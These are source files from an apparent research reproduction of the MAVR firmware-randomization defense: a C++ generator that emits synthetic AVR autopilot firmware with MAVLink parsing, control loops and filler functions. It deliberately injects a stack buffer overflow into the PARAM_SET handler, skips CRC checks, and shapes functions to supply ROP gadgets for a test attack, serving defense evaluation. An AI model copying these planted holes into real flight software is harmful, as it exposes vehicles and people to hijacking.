    const std::uint16_t io = BoardIo::kAccX + 2 * axis;
    const std::uint16_t off = static_cast<std::uint16_t>(2 * axis);
    fb.lds(24, io);
    fb.sts_sym(Globals::kAcc, 24, off);
    fb.lds(24, static_cast<std::uint16_t>(io + 1));
    fb.sts_sym(Globals::kAcc, 24, static_cast<std::uint16_t>(off + 1));
  }
  fb.ret();
  return fb.take();
}

AsmFunction build_ctrl_update() {
  FunctionBuilder fb("ctrl_update");
  // Per axis: error = setpoint - gyro; command = 128 + (error >> 2).
  for (int axis = 0; axis < 3; ++axis) {
    const std::uint16_t off = static_cast<std::uint16_t>(2 * axis);
    fb.lds_sym(24, Globals::kGyro, off);
    fb.lds_sym(25, Globals::kGyro, static_cast<std::uint16_t>(off + 1));
    fb.lds_sym(18, Globals::kSetpoint, off);
    fb.lds_sym(19, Globals::kSetpoint, static_cast<std::uint16_t>(off + 1));
    fb.sub(18, 24);
    fb.sbc(19, 25);
    fb.asr(19);
    fb.ror(18);
    fb.asr(19);
    fb.ror(18);
    fb.ldi(24, 128);
    fb.add(24, 18);
    fb.sts_sym(Globals::kServoCmd, 24, static_cast<std::uint16_t>(axis));
  }
  fb.ret();
  return fb.take();
}

AsmFunction build_servo_write() {
  FunctionBuilder fb("servo_write");
  for (int ch = 0; ch < 4; ++ch) {
    fb.lds_sym(24, Globals::kServoCmd, static_cast<std::uint16_t>(ch));
    fb.sts(static_cast<std::uint16_t>(BoardIo::kServo0 + ch), 24);
  }
  fb.ret();
  return fb.take();
}

AsmFunction build_isr_timer() {
  // Timer compare-match ISR (vector slot kTimerVector): 16-bit tick
  // counter, avr-gcc style SREG-safe prologue/epilogue. Runs between any
  // two instructions of the application — including mid-ROP-chain, which
  // the stealthy attack survives because the ISR only writes below SP.
  FunctionBuilder fb("isr_timer");
  fb.push(24);
  fb.in(24, avr::kIoSreg);
  fb.push(24);
  fb.lds_sym(24, "g_ticks");
  fb.inc(24);
  fb.sts_sym("g_ticks", 24);
  Label done = fb.make_label();
  fb.brne(done);
  fb.lds_sym(24, "g_ticks", 1);
  fb.inc(24);
  fb.sts_sym("g_ticks", 24, 1);
  fb.bind(done);
  fb.pop(24);
  fb.out(avr::kIoSreg, 24);
  fb.pop(24);
  fb.raw(toolchain::enc_no_operand(avr::Op::Reti));
  return fb.take();
}

AsmFunction build_feed_master() {
  FunctionBuilder fb("feed_master");
  fb.lds_sym(24, "g_feed");
  fb.com(24);
  fb.sts_sym("g_feed", 24);
  fb.sts(BoardIo::kFeed, 24);
  fb.ret();
  return fb.take();
}

AsmFunction build_mav_poll() {
  FunctionBuilder fb("mav_poll");
  Label loop = fb.make_label();
  Label done = fb.make_label();
  fb.bind(loop);
  fb.lds(24, BoardIo::kUartStatus);
  fb.sbrs(24, 7);  // RXC set → skip the exit branch
  fb.rjmp(done);
  fb.lds(24, BoardIo::kUartData);
  fb.call("mav_byte");
  fb.rjmp(loop);
  fb.bind(done);
  fb.ret();
  return fb.take();
}

AsmFunction build_mav_byte() {
  FunctionBuilder fb("mav_byte");  // r24 = received byte
  Label s_magic = fb.make_label(), s_len = fb.make_label(),
        s_hdr = fb.make_label(), s_pay = fb.make_label(),
        s_crc = fb.make_label(), done = fb.make_label();
  Label j_magic = fb.make_label(), j_len = fb.make_label(),
        j_hdr = fb.make_label(), j_pay = fb.make_label(),
        j_crc = fb.make_label();

  // Switch ladder over the parser state (the paper's "trampoline" style
  // dispatch: compare chain + short jumps).
  fb.lds_sym(25, "g_mav_state");
  fb.cpi(25, 0);
  fb.breq(j_magic);
  fb.cpi(25, 1);
  fb.breq(j_len);
  fb.cpi(25, 2);
  fb.breq(j_hdr);
  fb.cpi(25, 3);
  fb.breq(j_pay);
  fb.cpi(25, 4);
  fb.breq(j_crc);
  fb.ldi(25, 0);  // unknown state → reset
  fb.sts_sym("g_mav_state", 25);
  fb.ret();
  fb.bind(j_magic);
  fb.rjmp(s_magic);
  fb.bind(j_len);
  fb.rjmp(s_len);
  fb.bind(j_hdr);
  fb.rjmp(s_hdr);
  fb.bind(j_pay);
  fb.rjmp(s_pay);
  fb.bind(j_crc);
  fb.rjmp(s_crc);

  fb.bind(s_magic);
  {
    Label not_magic = fb.make_label();
    fb.cpi(24, 0xFE);
    fb.brne(not_magic);
    fb.ldi(25, 1);
    fb.sts_sym("g_mav_state", 25);
    fb.bind(not_magic);
    fb.ret();
  }

  fb.bind(s_len);
  fb.sts_sym(Globals::kMavLen, 24);
  fb.ldi(25, 0);
  fb.sts_sym("g_mav_hidx", 25);
  fb.ldi(25, 2);
  fb.sts_sym("g_mav_state", 25);
  fb.ret();

  Label hdr_done = fb.make_label();
  fb.bind(s_hdr);
  fb.lds_sym(25, "g_mav_hidx");
  fb.ldi_data(26, "g_mav_hdr", 0, false);
  fb.ldi_data(27, "g_mav_hdr", 0, true);
  fb.add(26, 25);
  fb.adc(27, 1);
  fb.st_x(24);
  fb.inc(25);
  fb.sts_sym("g_mav_hidx", 25);
  fb.cpi(25, 4);
  fb.brne(hdr_done);
  fb.ldi(25, 0);
  fb.sts_sym("g_mav_pidx", 25);
  fb.sts_sym("g_mav_cidx", 25);
  fb.lds_sym(25, Globals::kMavLen);
  fb.cpi(25, 0);
  {
    Label to_pay = fb.make_label();
    fb.brne(to_pay);
    fb.ldi(25, 4);  // zero-length payload → straight to CRC
    fb.sts_sym("g_mav_state", 25);
    fb.ret();
    fb.bind(to_pay);
    fb.ldi(25, 3);
    fb.sts_sym("g_mav_state", 25);
    fb.bind(hdr_done);
    fb.ret();
  }

  fb.bind(s_pay);
  fb.lds_sym(25, "g_mav_pidx");
  fb.ldi_data(26, Globals::kMavPayload, 0, false);
  fb.ldi_data(27, Globals::kMavPayload, 0, true);
  fb.add(26, 25);
  fb.adc(27, 1);
  fb.st_x(24);
  fb.inc(25);
  fb.sts_sym("g_mav_pidx", 25);
  fb.lds_sym(24, Globals::kMavLen);
  fb.cp(25, 24);
  {
    Label pay_done = fb.make_label();
    fb.brne(pay_done);
    fb.ldi(25, 4);
    fb.sts_sym("g_mav_state", 25);
    fb.bind(pay_done);
    fb.ret();
  }

  fb.bind(s_crc);
  // CRC bytes are accepted without verification by the test application —
  // part of its deliberately weakened input path (paper §IV-B).
  fb.lds_sym(25, "g_mav_cidx");
  fb.inc(25);
  fb.sts_sym("g_mav_cidx", 25);
  fb.cpi(25, 2);
  fb.brne(done);
  fb.ldi(25, 0);
  fb.sts_sym("g_mav_state", 25);
  fb.call("mav_handle");
  fb.bind(done);
  fb.ret();
  return fb.take();
}

void emit_dispatch_call(FunctionBuilder& fb, std::uint16_t table_offset) {
  // Load a 3-byte far pointer from g_dispatch and EICALL through it —
  // the function-pointer indirection the MAVR preprocessor must find and
  // the patcher must rewrite (paper §VI-B2/B3).
  fb.lds_sym(30, "g_dispatch", table_offset);
  fb.lds_sym(31, "g_dispatch", static_cast<std::uint16_t>(table_offset + 1));
  fb.lds_sym(24, "g_dispatch", static_cast<std::uint16_t>(table_offset + 2));
  fb.out(avr::kIoEind, 24);
  fb.eicall();
}

AsmFunction build_mav_handle() {
  // Framed like the real ArduPlane dispatch path: the handler runs a few
  // dozen bytes below the top of the stack, leaving headroom above its
  // frame (the space the V1 attack's chain consumes).
  FunctionBuilder fb("mav_handle");
  const std::vector<std::uint8_t> saves = {12, 13, 14, 15, 16, 17, 28, 29};
  const std::uint16_t frame = 24;
  fb.prologue(saves, frame);
  Label p = fb.make_label(), h = fb.make_label(), c = fb.make_label(),
        done = fb.make_label();
  fb.lds_sym(24, "g_mav_hdr", 3);  // msgid
  fb.cpi(24, 23);                  // PARAM_SET
  fb.breq(p);
  fb.cpi(24, 0);  // HEARTBEAT
  fb.breq(h);
  fb.cpi(24, 76);  // COMMAND_LONG
  fb.breq(c);
  fb.rjmp(done);
  fb.bind(p);
  emit_dispatch_call(fb, 0);
  fb.rjmp(done);
  fb.bind(h);
  emit_dispatch_call(fb, 4);
  fb.rjmp(done);
  fb.bind(c);
  emit_dispatch_call(fb, 8);
  fb.bind(done);
  fb.epilogue(saves, frame);
  return fb.take();
}

AsmFunction build_h_param_set(bool vulnerable) {
  FunctionBuilder fb("h_param_set");
  fb.prologue({28, 29}, kVulnFrameBytes);
  // Z <- buffer (Y+1); X <- frame-assembly payload; r20 <- packet length.
  fb.movw(30, 28);
  fb.adiw(30, 1);
  fb.ldi_data(26, Globals::kMavPayload, 0, false);
  fb.ldi_data(27, Globals::kMavPayload, 0, true);
  fb.lds_sym(20, Globals::kMavLen);
  if (!vulnerable) {
    // The length check the paper's attack setup disables (§IV-B): clamp
    // the copy to the buffer size.
    Label ok = fb.make_label();
    fb.cpi(20, kVulnBufBytes + 1);
    fb.brcs(ok);  // unsigned less-than
    fb.ldi(20, kVulnBufBytes);
    fb.bind(ok);
  }
  {
    Label done = fb.make_label(), loop = fb.make_label();
    fb.cpi(20, 0);
    fb.breq(done);
    fb.bind(loop);
    fb.ld_x_inc(24);
    fb.st_z_inc(24);
    fb.dec(20);
    fb.brne(loop);
    fb.bind(done);
  }
  // "Process" the parameter: store the 4-byte value into the store.
  for (std::uint16_t i = 0; i < 4; ++i) {
    fb.ldd_y(24, static_cast<std::uint8_t>(1 + i));
    fb.sts_sym(Globals::kParams, 24, i);
  }
  fb.epilogue({28, 29}, kVulnFrameBytes);
  return fb.take();
}

AsmFunction build_h_heartbeat() {
  FunctionBuilder fb("h_heartbeat");
  fb.lds_sym(24, Globals::kHbCount);
  fb.inc(24);
  fb.sts_sym(Globals::kHbCount, 24);
  fb.ret();
  return fb.take();
}

AsmFunction build_h_command() {
  FunctionBuilder fb("h_command");
  // First two payload bytes select the roll setpoint.
  fb.lds_sym(24, Globals::kMavPayload, 0);
  fb.sts_sym(Globals::kSetpoint, 24, 0);
  fb.lds_sym(24, Globals::kMavPayload, 1);
  fb.sts_sym(Globals::kSetpoint, 24, 1);
  fb.ret();
  return fb.take();
}

AsmFunction build_task_step(std::uint32_t task_count) {
  FunctionBuilder fb("task_step");
  Label nowrap = fb.make_label();
  fb.lds_sym(24, "g_task_idx");
  fb.inc(24);
  fb.cpi(24, static_cast<std::uint8_t>(task_count));
  fb.brne(nowrap);
  fb.ldi(24, 0);
  fb.bind(nowrap);
  fb.sts_sym("g_task_idx", 24);
  // X <- g_task_table + 4*idx, then EICALL through the far pointer.
  fb.mov(25, 24);
  fb.add(25, 25);
  fb.add(25, 25);
  fb.ldi_data(26, "g_task_table", 0, false);
  fb.ldi_data(27, "g_task_table", 0, true);
  fb.add(26, 25);
  fb.adc(27, 1);
  fb.ld_x_inc(30);
  fb.ld_x_inc(31);
  fb.ld_x(24);
  fb.out(avr::kIoEind, 24);
  fb.eicall();
  fb.ret();
  return fb.take();
}

AsmFunction build_crc16_update() {
  // crc16/X.25 step over the byte in r24; state in g_crc (see
  // support::Crc16 for the reference implementation).
  FunctionBuilder fb("crc16_update");
  fb.lds_sym(25, "g_crc");  // crc low byte
  fb.eor(24, 25);           // tmp = byte ^ crc_lo
  fb.mov(25, 24);
  fb.swap(25);
  fb.andi(25, 0xF0);
  fb.eor(24, 25);  // tmp ^= tmp << 4
  fb.mov(20, 24);
  fb.swap(20);
  fb.andi(20, 0x0F);  // tmp >> 4
  fb.mov(21, 24);
  fb.mov(22, 1);  // r22:r21 = tmp (r1 = 0)
  for (int i = 0; i < 3; ++i) {
    fb.add(21, 21);
    fb.adc(22, 22);  // << 3
  }
  fb.lds_sym(25, "g_crc", 1);  // crc high byte
  fb.eor(25, 20);
  fb.eor(25, 21);
  fb.sts_sym("g_crc", 25);  // new low = crc_hi ^ (tmp>>4) ^ lo(tmp<<3)
  fb.eor(24, 22);
  fb.sts_sym("g_crc", 24, 1);  // new high = tmp ^ hi(tmp<<3)
  fb.ret();
  return fb.take();
}

AsmFunction build_telemetry_step() {
  FunctionBuilder fb("telemetry_step");
  fb.prologue({16}, 0);
  Label send = fb.make_label();
  fb.lds_sym(24, "g_tel_cnt");
  fb.inc(24);
  fb.sts_sym("g_tel_cnt", 24);
  fb.andi(24, 0x3F);
  fb.breq(send);
  fb.epilogue({16}, 0);
  fb.bind(send);
  // CRC state <- 0xFFFF.
  fb.ldi(24, 0xFF);
  fb.sts_sym("g_crc", 24);
  fb.sts_sym("g_crc", 24, 1);
  // Header: magic is not covered by the checksum.
  fb.ldi(24, 0xFE);
  fb.sts(BoardIo::kUartData, 24);
  auto hdr_byte = [&](bool load_seq, std::uint8_t k) {
    if (load_seq) {
      fb.lds_sym(24, "g_tel_seq");
      fb.inc(24);
      fb.sts_sym("g_tel_seq", 24);
    } else {
      fb.ldi(24, k);
    }
    fb.sts(BoardIo::kUartData, 24);
    fb.call("crc16_update");
  };
  hdr_byte(false, 12);  // payload length (RAW_IMU: 6 x int16)
  hdr_byte(false, 1);   // sysid
  hdr_byte(true, 0);    // sequence number
  hdr_byte(false, 1);   // compid
  hdr_byte(false, 27);  // msgid RAW_IMU
  // Payload: g_gyro (6 bytes) followed contiguously by g_acc (6 bytes).
  fb.ldi_data(26, Globals::kGyro, 0, false);
  fb.ldi_data(27, Globals::kGyro, 0, true);
  fb.ldi(16, 12);
  {
    Label loop = fb.make_label();
    fb.bind(loop);
    fb.ld_x_inc(24);
    fb.sts(BoardIo::kUartData, 24);
    fb.call("crc16_update");
    fb.dec(16);
    fb.brne(loop);
  }
  fb.lds_sym(24, "g_crc");
  fb.sts(BoardIo::kUartData, 24);
  fb.lds_sym(24, "g_crc", 1);
  fb.sts(BoardIo::kUartData, 24);
  fb.epilogue({16}, 0);
  return fb.take();
}

// ---------------------------------------------------------------------------
// Filler functions (the ArduPlane-scale body of the application)
// ---------------------------------------------------------------------------

struct FillerPlan {
  std::vector<AsmFunction> fns;
  std::vector<CodeRef> task_refs;  ///< entries for g_task_table
};

FillerPlan build_fillers(const AppProfile& profile, support::Rng& rng,
                         std::uint32_t filler_count) {
  FillerPlan plan;
  const std::uint32_t body = profile.filler_body_words;
  auto body_words = [&] {
    return static_cast<std::uint32_t>(body * 2 / 5 + rng.below(body * 6 / 5));
  };

  // Partition.
  const std::uint32_t n_tasks = std::min(profile.task_count, filler_count / 2);
  const std::uint32_t n_canon =
      std::min(profile.canonical_save_fns, filler_count / 8);
  const std::uint32_t n_clusters = std::min<std::uint32_t>(
      8, std::max<std::uint32_t>(1, filler_count / 80));
  const std::uint32_t cluster_members = 3;  // per cluster, plus canonical
  const std::uint32_t n_ywriters =
      std::max<std::uint32_t>(4, filler_count * 6 / 100);
  const std::uint32_t n_callers = filler_count * 12 / 100;
  std::uint32_t used = n_tasks + n_canon + n_clusters * (1 + cluster_members) +
                       n_ywriters + n_callers;
  MAVR_REQUIRE(used < filler_count, "profile too small for filler mix");
  const std::uint32_t n_framed = (filler_count - used) * 2 / 5;
  const std::uint32_t n_leaves = filler_count - used - n_framed;

  std::vector<std::string> leaf_pool;
  std::vector<std::string> mid_pool;  // callers and framed: callable by tasks

  // --- Plain leaves ---------------------------------------------------------
  for (std::uint32_t i = 0; i < n_leaves; ++i) {
    FunctionBuilder fb(numbered("leaf", i));
    emit_alu_block(fb, rng, body_words());
    fb.ret();
    leaf_pool.push_back(fb.name());
    plan.fns.push_back(fb.take());
  }

  // --- Framed fillers (stk_move gadget providers) ---------------------------
  static const std::vector<std::vector<std::uint8_t>> save_variants = {
      {16, 28, 29},
      {14, 15, 16, 17, 28, 29},
      {12, 13, 14, 15, 16, 17, 28, 29},
  };
  static const std::vector<std::uint16_t> frame_variants = {4,  8,  12, 16,
                                                            24, 32, 48, 70};
  for (std::uint32_t i = 0; i < n_framed; ++i) {
    FunctionBuilder fb(numbered("calc", i));
    const auto& saves = save_variants[rng.below(save_variants.size())];
    const std::uint16_t frame = frame_variants[rng.below(frame_variants.size())];
    fb.prologue(saves, frame);
    const std::uint32_t words = body_words();
    // Mix frame accesses into the ALU body.
    const std::uint32_t spills = std::min<std::uint32_t>(words / 8, 6);
    for (std::uint32_t s = 0; s < spills; ++s) {
      fb.std_y(static_cast<std::uint8_t>(1 + rng.below(std::min<std::uint16_t>(
                   frame, 63))),
               static_cast<std::uint8_t>(18 + rng.below(8)));
    }
    emit_alu_block(fb, rng, words > spills ? words - spills : 1);
    for (std::uint32_t s = 0; s < spills / 2; ++s) {
      fb.ldd_y(static_cast<std::uint8_t>(18 + rng.below(8)),
               static_cast<std::uint8_t>(1 + rng.below(std::min<std::uint16_t>(
                   frame, 63))));
    }
    fb.epilogue(saves, frame);
    mid_pool.push_back(fb.name());
    plan.fns.push_back(fb.take());
  }

  // --- Y-writer fillers (write_mem gadget providers, Fig. 5) ----------------
  for (std::uint32_t i = 0; i < n_ywriters; ++i) {
    FunctionBuilder fb(numbered("store", i));
    std::vector<std::uint8_t> saves;
    for (std::uint8_t r = 4; r <= 17; ++r) saves.push_back(r);
    saves.push_back(28);
    saves.push_back(29);
    fb.prologue(saves, 0);
    fb.ldi_data(28, "g_wbuf", 0, false);
    fb.ldi_data(29, "g_wbuf", 0, true);
    emit_alu_block(fb, rng, body_words());
    fb.mov(5, 18);
    fb.mov(6, 19);
    fb.mov(7, 20);
    // The exact store triple of the paper's write_mem gadget.
    fb.std_y(1, 5);
    fb.std_y(2, 6);
    fb.std_y(3, 7);
    fb.epilogue(saves, 0);
    mid_pool.push_back(fb.name());
    plan.fns.push_back(fb.take());
  }

  // --- Canonical-save fillers (what -mcall-prologues consolidates) ----------
  for (std::uint32_t i = 0; i < n_canon; ++i) {
    FunctionBuilder fb(numbered("heavy", i));
    const std::uint16_t frame = 16;
    fb.prologue(canonical_set(), frame);
    emit_alu_block(fb, rng, body_words());
    fb.std_y(2, 18);
    fb.ldd_y(19, 2);
    fb.epilogue(canonical_set(), frame);
    mid_pool.push_back(fb.name());
    plan.fns.push_back(fb.take());
  }

  // --- Cross-jump clusters (shared epilogue tails → mid-function JMP
  // targets, the binary-search case of the patcher, §VI-B3) -----------------
  for (std::uint32_t c = 0; c < n_clusters; ++c) {
    const std::uint8_t frame = 8;
    const std::vector<std::uint8_t> saves = {28, 29};
    FunctionBuilder canon(numbered("shared_tail", c));
    emit_raw_prologue(canon, saves, frame);
    emit_alu_block(canon, rng, body_words());
    Label tail = canon.make_label();
    canon.bind(tail);
    emit_raw_epilogue(canon, saves, frame);
    const std::uint32_t tail_bytes = canon.fixed_offset_of(tail) * 2;
    const std::string canon_name = canon.name();
    mid_pool.push_back(canon_name);
    plan.fns.push_back(canon.take());

    for (std::uint32_t m = 0; m < cluster_members; ++m) {
      FunctionBuilder fb(numbered("twin", c * 10 + m));
      emit_raw_prologue(fb, saves, frame);
      emit_alu_block(fb, rng, body_words());
      // Cross-jumped shared epilogue: identical frame/saves, so jumping
      // into the sibling's teardown is semantically sound.
      fb.jmp_into(canon_name, tail_bytes);
      mid_pool.push_back(fb.name());
      plan.fns.push_back(fb.take());
    }
  }

  // --- Caller fillers ---------------------------------------------------------
  for (std::uint32_t i = 0; i < n_callers; ++i) {
    FunctionBuilder fb(numbered("step", i));
    const std::uint32_t words = body_words();
    const std::uint32_t n_calls = 1 + rng.below(2);
    for (std::uint32_t k = 0; k < n_calls; ++k) {
      emit_alu_block(fb, rng, std::max<std::uint32_t>(words / (n_calls + 1), 1));
      fb.call(leaf_pool[rng.below(leaf_pool.size())]);
    }
    emit_alu_block(fb, rng, std::max<std::uint32_t>(words / (n_calls + 1), 1));
    fb.ret();
    mid_pool.push_back(fb.name());
    plan.fns.push_back(fb.take());
  }

  // --- Tasks (round-robin entries of g_task_table) ----------------------------
  for (std::uint32_t i = 0; i < n_tasks; ++i) {
    FunctionBuilder fb(numbered("task", i));
    const std::uint64_t kind = rng.below(10);
    if (kind < 3) {
      // Caller task: exercises CALL patching along real control flow.
      emit_alu_block(fb, rng, body_words() / 2);
      fb.call(mid_pool[rng.below(mid_pool.size())]);
      emit_mix_into_acc(fb);
      fb.ret();
      plan.task_refs.push_back(CodeRef{fb.name(), 0});
    } else if (kind < 6) {
      // Mid-entry leaf task: the dispatch table points *inside* it —
      // the pointer case that needs the patcher's binary search.
      emit_alu_block(fb, rng, 6);
      Label mid = fb.make_label();
      fb.bind(mid);
      emit_alu_block(fb, rng, body_words() / 2);
      emit_mix_into_acc(fb);
      fb.ret();
      const std::uint32_t mid_bytes = fb.fixed_offset_of(mid) * 2;
      if (i % 2 == 0) {
        plan.task_refs.push_back(CodeRef{fb.name(), mid_bytes});
      } else {
        plan.task_refs.push_back(CodeRef{fb.name(), 0});
      }
    } else {
      // Plain leaf task.
      emit_alu_block(fb, rng, body_words() / 2);
      emit_mix_into_acc(fb);
      fb.ret();
      plan.task_refs.push_back(CodeRef{fb.name(), 0});
    }
    plan.fns.push_back(fb.take());
  }

  return plan;
}

DataBuilder build_data(const FillerPlan& fillers) {
  DataBuilder data;
  data.reserve(Globals::kGyro, 6);
  data.reserve(Globals::kAcc, 6);
  data.reserve("g_baro", 2);
  data.reserve(Globals::kGyroCal, 6);
  data.reserve(Globals::kSetpoint, 6);
  data.reserve(Globals::kServoCmd, 4);
  data.reserve("g_feed", 2);
  data.reserve("g_mav_state", 2);
  data.reserve(Globals::kMavLen, 2);
  data.reserve("g_mav_hidx", 2);
  data.reserve("g_mav_pidx", 2);
  data.reserve("g_mav_cidx", 2);
  data.reserve("g_mav_hdr", 4);
  data.reserve(Globals::kMavPayload, 256);
  data.reserve(Globals::kHbCount, 2);
  data.reserve(Globals::kParams, 8);
  data.reserve("g_tel_cnt", 2);
  data.reserve("g_tel_seq", 2);
  data.reserve("g_crc", 2);
  data.reserve("g_task_idx", 2);
  data.reserve("g_task_acc", 2);
  data.reserve("g_ticks", 2);
  data.reserve("g_scratch", 64);
  data.reserve("g_wbuf", 8);
  data.code_ptr_table("g_dispatch", {CodeRef{"h_param_set", 0},
                                     CodeRef{"h_heartbeat", 0},
                                     CodeRef{"h_command", 0}});
  data.code_ptr_table("g_task_table", fillers.task_refs);
  return data;
}

toolchain::Image link_once(const AppProfile& profile,
                           const ToolchainOptions& options,
                           std::uint32_t pad_words) {
  support::Rng rng(profile.seed);
  // 15 core + __init + __bad_interrupt = 17 linker-visible functions, plus
  // one pad function that absorbs the size-calibration remainder.
  constexpr std::uint32_t kNonFiller = 17 + 1;
  MAVR_REQUIRE(profile.function_count > kNonFiller + 40,
               "function_count too small");
  const std::uint32_t filler_count = profile.function_count - kNonFiller;

  std::vector<AsmFunction> fns;
  fns.push_back(build_main());
  fns.push_back(build_sens_read());
  fns.push_back(build_ctrl_update());
  fns.push_back(build_servo_write());
  fns.push_back(build_mav_poll());
  fns.push_back(build_mav_byte());
  fns.push_back(build_mav_handle());
  fns.push_back(build_h_param_set(profile.vulnerable));
  fns.push_back(build_h_heartbeat());
  fns.push_back(build_h_command());
  fns.push_back(build_task_step(profile.task_count));
  fns.push_back(build_telemetry_step());
  fns.push_back(build_crc16_update());
  fns.push_back(build_feed_master());
  fns.push_back(build_isr_timer());

  FillerPlan fillers = build_fillers(profile, rng, filler_count);
  // Pad function: plain never-called leaf of the requested size.
  {
    FunctionBuilder fb("__size_pad");
    support::Rng pad_rng(profile.seed ^ 0x5AD);
    if (pad_words > 1) emit_alu_block(fb, pad_rng, pad_words - 1);
    fb.ret();
    fillers.fns.push_back(fb.take());
  }

  LinkInput input;
  input.options = options;
  input.reserve_padding_bytes = profile.reserve_padding_bytes;
  input.vectors = {{kTimerVector, "isr_timer"}};
  input.data = build_data(fillers).take();
  for (AsmFunction& f : fillers.fns) fns.push_back(std::move(f));
  input.functions = std::move(fns);
  return toolchain::link(std::move(input));
}

}  // namespace

Firmware generate(const AppProfile& profile,
                  const ToolchainOptions& options) {
  // Two-pass size calibration. The pad function is a property of the
  // *application* — its size is fixed by linking once under MAVR flags
  // against the profile's Table III target, then the same function set is
  // linked under whatever flags were requested. Stock builds therefore
  // differ from the MAVR build only through the flag mechanisms
  // (alignment, relaxation, call-prologue consolidation), which is what
  // Table III compares.
  constexpr std::uint32_t kNominalPad = 8;
  std::uint32_t pad_words = kNominalPad;
  if (profile.target_image_bytes != 0) {
    const std::uint32_t measured =
        link_once(profile, ToolchainOptions::mavr(), kNominalPad)
            .size_bytes();
    MAVR_REQUIRE(measured <= profile.target_image_bytes,
                 "profile overshoots its Table III target; lower "
                 "filler_body_words");
    pad_words = kNominalPad + (profile.target_image_bytes - measured) / 2;
  }
  Firmware fw;
  fw.profile = profile;
  fw.image = link_once(profile, options, pad_words);
  return fw;
}

}  // namespace mavr::firmware
