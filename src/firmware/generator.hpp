// Synthetic-autopilot firmware generator.
//
// Emits a complete, runnable AVR application for the ATmega2560 that plays
// the role of ArduPlane/ArduCopter/ArduRover in the reproduction:
//
//  * a flight loop: read gyro from memory-mapped sensor ports, apply the
//    calibration offsets in RAM, run a P-controller, write servo ports,
//    feed the master-processor watchdog line;
//  * a MAVLink receive path (byte-oriented state machine over USART0) with
//    per-message handlers dispatched through a function-pointer table; the
//    PARAM_SET handler copies the payload into a fixed stack buffer using
//    the packet's length byte — *without* bounds check when the profile is
//    vulnerable (the injected flaw of paper §IV-B);
//  * RAW_IMU telemetry with a real CRC-16/X.25, parsed by the host-side
//    ground station;
//  * hundreds of deterministic filler functions reproducing the paper's
//    function counts and code sizes, including the idioms that create the
//    attack's gadgets (framed epilogues → stk_move, Y-writer epilogues →
//    write_mem), cross-jumped shared epilogue tails (mid-function JMP
//    targets) and mid-function dispatch-table entries — the cases the MAVR
//    patcher must handle (paper §VI-B3).
#pragma once

#include "firmware/profile.hpp"
#include "toolchain/image.hpp"
#include "toolchain/linker.hpp"

namespace mavr::firmware {

/// Memory-mapped I/O addresses of the simulated APM board peripherals
/// (data-space addresses in the extended-I/O range, see sim::Board).
struct BoardIo {
  static constexpr std::uint16_t kGyroX = 0x120;  // 16-bit LE, +2 per axis
  static constexpr std::uint16_t kGyroY = 0x122;
  static constexpr std::uint16_t kGyroZ = 0x124;
  static constexpr std::uint16_t kAccX = 0x126;
  static constexpr std::uint16_t kAccY = 0x128;
  static constexpr std::uint16_t kAccZ = 0x12A;
  static constexpr std::uint16_t kBaro = 0x12C;
  static constexpr std::uint16_t kServo0 = 0x140;  // one byte per channel
  static constexpr std::uint16_t kServo1 = 0x141;
  static constexpr std::uint16_t kServo2 = 0x142;
  static constexpr std::uint16_t kServo3 = 0x143;
  static constexpr std::uint16_t kFeed = 0x150;    // master watchdog feed
  static constexpr std::uint16_t kLed = 0x151;
  static constexpr std::uint16_t kUartStatus = 0xC0;  // UCSR0A
  static constexpr std::uint16_t kUartData = 0xC6;    // UDR0
};

/// Names of the RAM globals the attack and the tests reference through
/// Image::find_data().
struct Globals {
  static constexpr const char* kGyro = "g_gyro";           // 3 x int16 raw+cal
  static constexpr const char* kGyroCal = "g_gyro_cal";    // 3 x int16 offsets
  static constexpr const char* kAcc = "g_acc";             // 3 x int16
  static constexpr const char* kSetpoint = "g_setpoint";   // 3 x int16
  static constexpr const char* kServoCmd = "g_servo_cmd";  // 4 bytes
  static constexpr const char* kMavPayload = "g_mav_payload";
  static constexpr const char* kMavLen = "g_mav_len";
  static constexpr const char* kHbCount = "g_hb_count";
  static constexpr const char* kParams = "g_params";
};

/// Size of the PARAM_SET handler's stack buffer (bytes) and its frame.
/// The attack builder uses these to compute overflow distances.
inline constexpr std::uint16_t kVulnBufBytes = 96;
inline constexpr std::uint16_t kVulnFrameBytes = kVulnBufBytes + 2;

/// Interrupt-vector slot of the timer tick ISR (TIMER1 COMPA on the
/// ATmega2560). The board fires it every kTimerPeriodCycles.
inline constexpr std::uint8_t kTimerVector = 17;
inline constexpr std::uint64_t kTimerPeriodCycles = 10'000;  // 1.6 kHz

/// Generation result: the linked image plus provenance.
struct Firmware {
  toolchain::Image image;
  AppProfile profile;
};

/// Generates and links the firmware for `profile` under `options`.
Firmware generate(const AppProfile& profile,
                  const toolchain::ToolchainOptions& options);

}  // namespace mavr::firmware
