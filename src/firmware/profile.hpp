// Application profiles for the synthetic-autopilot firmware generator.
//
// Each profile is calibrated to one of the paper's three evaluation targets
// (Table I function counts; Table III code sizes): ArduPlane 2.7.4 (917
// functions, ~221 KB), ArduCopter (1030 functions, ~244 KB) and ArduRover
// (800 functions, ~178 KB). Since the original GCC-4.5.4-built binaries are
// not reproducible here, the generator emits runnable AVR firmware with the
// same structural statistics; see DESIGN.md §2 for the substitution
// rationale.
#pragma once

#include <cstdint>
#include <string>

namespace mavr::firmware {

struct AppProfile {
  std::string name;
  std::uint64_t seed = 1;
  /// Total function-symbol count of the linked MAVR-flags image
  /// (Table I: includes startup/runtime functions, excludes the vector
  /// table object).
  std::uint32_t function_count = 0;
  /// Average filler-function body size knob (words); tuned per profile so
  /// the linked image size approaches the paper's Table III numbers.
  std::uint32_t filler_body_words = 0;
  /// Number of filler functions using the full canonical callee-save set —
  /// these are the ones -mcall-prologues consolidates in stock builds.
  std::uint32_t canonical_save_fns = 0;
  /// Number of task-table entries (round-robin work the main loop runs).
  std::uint32_t task_count = 48;
  /// Table III target for the MAVR-flags build in bytes (0 = no size
  /// calibration). The generator undershoots with its nominal function mix
  /// and sizes a pad function to land exactly on this value.
  std::uint32_t target_image_bytes = 0;
  /// Erased-flash slack reserved between code and .data so the MAVR
  /// randomizer can insert random inter-function padding (§VIII-B
  /// extension; the paper judged it unnecessary at 800+ symbols).
  std::uint32_t reserve_padding_bytes = 0;
  /// Inject the MAVLink length-check vulnerability (paper §IV-B)?
  bool vulnerable = false;
};

/// ArduPlane 2.7.4 analogue: 917 functions, ~221.3 KB under MAVR flags.
AppProfile arduplane(bool vulnerable = false);

/// ArduCopter analogue: 1030 functions, ~244.3 KB under MAVR flags.
AppProfile arducopter(bool vulnerable = false);

/// ArduRover analogue: 800 functions, ~177.6 KB under MAVR flags.
AppProfile ardurover(bool vulnerable = false);

